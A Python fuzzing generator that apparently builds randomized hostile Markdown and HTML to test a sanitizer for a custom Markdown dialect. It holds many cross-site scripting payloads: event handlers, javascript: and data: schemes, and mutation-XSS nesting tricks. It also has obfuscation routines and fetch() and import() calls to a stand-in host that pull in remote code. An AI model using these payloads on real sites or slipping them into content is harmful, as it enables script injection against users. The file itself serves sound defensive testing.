"""Hostile Markdown from a seed: tags, attributes and schemes in every place of a text, bent out of shape."""

from __future__ import annotations

import html
from random import Random

ELSEWHERE = "https://elsewhere.example"
DEEDS = (
    "window.hit=1",
    "top.hit=1",
    "alert(1)",
    f"fetch('{ELSEWHERE}/f')",
    f"import('{ELSEWHERE}/m.js')",
    "eval('window.hit=1')",
    "location='javascript:window.hit=1'",
)
SCHEMES = (
    *("javascript:", "JavaScript:", "java\tscript:", "\x01javascript:", "&#106;avascript:"),
    *("javascript&colon;", "feed:javascript:", "vbscript:", "view-source:", "blob:", "file:///"),
    *("data:text/html,<script>top.", "data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4="),
    *(f"{ELSEWHERE}/", "//elsewhere.example/", "mailto:", "#", "/", "."),
    *("media:", "product:", "article:", "collection:", "page:", "batch:"),
)
OTHERS = (f"{ELSEWHERE}/", "//elsewhere.example/")
TAGS = (
    *("script", "img", "svg", "iframe", "object", "embed", "details", "video", "audio", "source"),
    *("body", "input", "form", "button", "math", "style", "link", "meta", "base", "marquee", "template"),
    *("noscript", "a", "p", "div", "table", "td", "th", "ol", "h2", "figure", "span", "textarea"),
    *("title", "select", "option", "animate", "set", "foreignObject", "use", "image", "xmp", "noembed"),
    *("plaintext", "frameset", "annotation-xml", "unknown"),
)
COMMON = ("img", "svg", "a", "script", "iframe")
HANDLERS = (
    *("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onclick", "onanimationstart", "onbegin"),
    *("onpointerenter", "onpageshow", "onstart", "ONERROR", "on\x0cerror", "data-x onerror", "/onload"),
)
LEADING = (
    *("src", "href", "xlink:href", "srcdoc", "action", "formaction", "data", "poster", "background"),
    *("srcset", "ping", "style", "content", "http-equiv=refresh content", "class=cite href", "id", "title"),
    "data-buy action",
)
MORE = (
    *("", " autofocus tabindex=1", " open", " controls autoplay"),
    " attributeName=href to=javascript:window.hit=1",
)
QUOTES = ('"', "'", "", "`", "&quot;")
ENDS = (">", "/>", " >words</{tag}>", "><{tag}>", "", "//", "><!--", "></{tag} x>")
WHOLE = (
    "<script>{deed}</script>",
    f"<script src={ELSEWHERE}/s.js></script>",
    f"<img src={ELSEWHERE}/p.png onerror={{deed}}>",
    '<img src="//elsewhere.example/p.png" srcset="//elsewhere.example/q.png 2x">',
    "<scr<script>ipt>{deed}</script>",
    "<svg><script>{deed}</script></svg>",
    "<svg><style><img src=x onerror={deed}></style>",
    "<svg></p><style><a id='</style><img src=1 onerror={deed}>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={deed}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={deed}>",
    '<noscript><p title="</noscript><img src=x onerror={deed}>">',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<template><img src=x onerror="{deed}"></template>',
    "<table><td><svg><desc><td><img src=x onerror={deed}>",
    "<![CDATA[<img src=x onerror={deed}>]]>",
    "<?xml <img src=x onerror={deed}>?>",
    "<a href='x' title='href=\"product:nmn-c\" onmouseover={deed}'>words</a>",
    '<a class="x" href="product:nmn-c"onmouseover="{deed}">words</a>',
    '<a href="product:x&quot; onmouseover=&quot;{deed}">words</a>',
    '<img src="media:x&quot; onerror=&quot;{deed}">',
    '<p id=hit name=hit title="<script>{deed}</script>">',
    '<div class="x" role="dialog" aria-label="&quot; onfocus={deed} autofocus tabindex=0">words</div>',
)
INSIDE = (
    "[words]({scheme}{deed})",
    "[words](<{scheme}{deed}>)",
    '[words]({scheme}x "{inner}")',
    "[words][one]\n\n[one]: {scheme}{deed}",
    "<{scheme}{deed}>",
    "![{inner}]({scheme}{deed})",
    "![{inner}](media:" + "ab" * 32 + '.png#8x8 "{inner}")',
    "![words](media:" + "ab" * 32 + '.png#8x8"onerror={deed})',
    '[words](product:nmn-c?"onmouseover="{deed}")',
    "[words](product:nmn-c#{inner})",
    "[words](article:nmn-basics{inner})",
    "[{inner}](product:nmn-c)",
    "[@{inner}]",
    "[@known-key; @{deed}]",
    ":::product nmn-c | {inner}",
    ":::product {inner}",
    ":::order-now nmn-c | {inner} {{name}} | {inner}",
    ":::order-now collection:nmn style:light | {inner}",
    ":::order-now nmn-c mgt-c else:{inner}",
    ":::{inner}",
    "## {inner}",
    "> {inner}",
    "- {inner}\n\n  {inner}",
    "| {inner} | b |\n|---|--:|\n| a | {inner} |",
    "```{inner}\n{inner}\n```",
    "`{inner}` ~~{inner}~~ **{inner}**",
    "    {inner}",
    "<!-- {inner} -->",
    "words\n{inner}\nwords",
    "{inner}",
    "{inner}",
    "{inner}",
)


def text(random: Random) -> str:
    """A hostile text of one to three parts."""
    return "\n\n".join(_part(random) for _ in range(random.randint(1, 3)))


def _part(random: Random) -> str:
    place = random.choice(INSIDE)
    while "{inner}" in place:
        place = place.replace("{inner}", _inner(random), 1)
    place = place.replace("{scheme}", random.choice(SCHEMES))
    return place.replace("{deed}", random.choice(DEEDS)).replace("{{name}}", "{name}")


def _inner(random: Random) -> str:
    """HTML that would do something, as it is or bent."""
    made = random.choice(WHOLE) if random.random() < 0.4 else _tag(random)
    for _ in range(random.choice((0, 0, 1, 2))):
        made = random.choice((_cased, _cut, _put_in, _encoded, _doubled, _escaped))(made, random)
    return made.replace("{deed}", random.choice(DEEDS))


def _tag(random: Random) -> str:
    tag, quote = random.choice(random.choice((TAGS, COMMON))), random.choice(QUOTES)
    value = random.choice(random.choice((SCHEMES, SCHEMES, OTHERS))) + random.choice(("x", "{deed}"))
    handler = f"{random.choice(HANDLERS)}={quote}{{deed}}{quote}"
    attributes = [
        f"{random.choice(random.choice((LEADING, LEADING[:2])))}={quote}{value}{quote}",
        handler + random.choice(MORE),
    ]
    random.shuffle(attributes)
    between = random.choice((" ", "\t", "\x0c", "/", " "))
    return f"<{tag}{between}{between.join(attributes)}{random.choice(ENDS).replace('{tag}', tag)}"


def _cased(made: str, random: Random) -> str:
    """Letters of a tag in another case; what is to be done keeps its own."""
    before, deed, after = made.partition("{deed}")
    return "".join(random.choice((one, one.upper())) for one in before) + deed + after


def _cut(made: str, random: Random) -> str:
    at = random.randrange(len(made) + 1)
    return made[:at] + made[at + random.randint(0, 2) :]


def _put_in(made: str, random: Random) -> str:
    at = random.randrange(len(made) + 1)
    return made[:at] + random.choice("\t\r\x0c\x00\u00ad\u200b\ufeff/<>'\"`&;=") + made[at:]


def _encoded(made: str, random: Random) -> str:
    """Some letters as entities, with and without their semicolon."""
    ends = random.choice((";", "", "; "))
    return "".join(
        f"&#{random.choice((str(ord(one)), f'x{ord(one):x}'))}{ends}" if random.random() < 0.15 else one
        for one in made
    ).replace("&#123;deed", "{deed")


def _doubled(made: str, random: Random) -> str:
    return made.replace("<", random.choice(("<<", "<\x00", "< ", "%3C", "&lt;<")), random.randint(1, 2))


def _escaped(made: str, random: Random) -> str:
    """Escaped as text is: what is unescaped once too often would run."""
    return html.escape(made, quote=random.random() < 0.5)
